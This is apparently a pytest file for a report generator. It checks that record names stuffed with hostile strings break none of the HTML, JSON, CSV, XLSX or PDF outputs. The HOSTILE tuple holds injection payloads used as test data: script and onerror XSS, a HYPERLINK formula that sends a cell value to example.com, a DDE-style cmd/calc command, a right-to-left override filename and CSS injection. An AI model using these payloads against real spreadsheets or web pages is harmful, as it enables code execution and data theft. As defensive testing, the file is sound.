"""Names that try to break out of a format, in every report and every format."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import jsonschema
import openpyxl
import pypdfium2
import pytest

from graph import indexes
from graph.store import Bound, Store
from reports.catalog import catalog
from reports.formats import FORMATS, Options
from reports.formats.json import schema_of
from reports.kinds import shorten
from seed.world.generate import you
from tests.reports.conftest import Run
from tests.reports.test_formats import Tags

# The index of names takes no longer ones; the fields without an index get all of LONG.
LONGEST_NAME = 8_000
LONG = "x" * 10_000

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'></style></title>{{ 7*7 }}{% raw %}",
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe \u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u2067\u2066",
    "\U0001f9ea\U0001f469\u200d\U0001f52c \U00020bb7\u91ce\u5bb6 \U0001d54e\U0001f1f8\U0001f1ea",
    LONG,
    "/*style*/<style>-->",
    "-2+3\\22 \\a } @page { size: 1cm } url(http://example.com/) /* ",
)

RENAME = (
    "MATCH (n) WHERE n:Account OR n:Contact OR n:User OR n:Product OR n:Opportunity OR n:Activity\n"
    "WITH n ORDER BY n.uid WITH collect(n) AS records UNWIND range(0, size(records) - 1) AS at\n"
    "WITH records[at] AS n, $names[at % size($names)] AS hostile\n"
    "WITH n, hostile, left(hostile, $longest) AS name\n"
    "SET n.name = name, n.jobTitle = name, n.industry = name, n.city = hostile, n.subject = hostile\n"
    "RETURN count(n)"
)


@pytest.fixture
async def hostile(store: Store, world: None, largest: str) -> str:
    """The demo world with a hostile name for every record; the next test that needs the world gets a fresh one."""
    await store.writes.change(Bound("test.rename", RENAME, {"names": list(HOSTILE), "longest": LONGEST_NAME}))
    await indexes.replan(store.writes)
    await store.writes.change(Bound("test.note", "MATCH (c:Contents) SET c.name = 'hostile' RETURN c.name", {}))
    return largest


def written(result: Any, name: str) -> bytes:
    return FORMATS[name].write(result, Options())


@pytest.mark.parametrize("name", list(catalog()))
async def test_hostile_names_break_nothing(name: str, run: Run, hostile: str) -> None:
    about = (hostile,) if catalog()[name].about == "Account" else ()
    result = await run(name, *about)
    page = written(result, "html").decode()
    tags = Tags(page)
    assert not {"script", "img", "iframe"} & {tag for tag, _ in tags.elements}
    assert not [key for _, one in tags.elements for key in one if key.startswith("on") or key in ("src", "href")]
    assert "x" * 241 not in page

    content = json.loads(written(result, "json"))
    jsonschema.validate(content, schema_of(result.report), jsonschema.Draft202012Validator)
    for table in result.tables:
        text = FORMATS["csv"].write(result, Options(table=table)).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            assert not [one for one in row if one.startswith(("=", "@", "+", "-2+3"))]
    book = openpyxl.load_workbook(io.BytesIO(written(result, "xlsx")))
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink is not None]

    document = pypdfium2.PdfDocument(written(result, "pdf"))
    assert round(document[0].get_width()) == 595
    assert len(document) < 60
    assert b"/JavaScript" not in written(result, "pdf")


async def called(store: Store, uid: str, name: str) -> None:
    """Names the subject of a report."""
    text = "MATCH (n:Account|User {uid: $uid}) SET n.name = $name RETURN n.name"
    await store.writes.change(Bound("test.call", text, {"uid": uid, "name": name}))


@pytest.mark.parametrize("name", list(catalog()))
async def test_a_hostile_subject_is_shown_and_stored_as_it_is(name: str, run: Run, hostile: str, store: Store) -> None:
    subject = hostile if catalog()[name].about == "Account" else you()
    for text in (one[:LONGEST_NAME] for one in HOSTILE):
        await called(store, subject, text)
        result = await run(name, subject)
        assert json.loads(written(result, "json"))["subject"] == text
        page = Tags(written(result, "html").decode())
        assert [tag for tag, _ in page.elements].count("style") == 1
        shown = "".join(page.texts)
        assert shorten(text) in shown
        book = openpyxl.load_workbook(io.BytesIO(written(result, "xlsx")))
        assert str(book.worksheets[-1].cell(1, 2).value).endswith(text)
        document = pypdfium2.PdfDocument(written(result, "pdf"))
        assert round(document[0].get_width()) == 595
        found = "".join(document[0].get_textpage().get_text_range().split())
        # A text with an override is drawn from right to left.
        expected = letters(shorten(text))[:20]
        assert expected in letters(found) or expected[::-1] in letters(found)
        for table in result.tables:
            values = list(csv.reader(io.StringIO(decoded(result, table))))
            assert len({len(row) for row in values}) == 1


def decoded(result: Any, table: str) -> str:
    """A table as CSV."""
    return FORMATS["csv"].write(result, Options(table=table)).decode("utf-8-sig")


def letters(text: str) -> str:
    """The letters of a text that the fonts of any machine have."""
    return "".join(one for one in text if one.isascii() and one.isalnum())
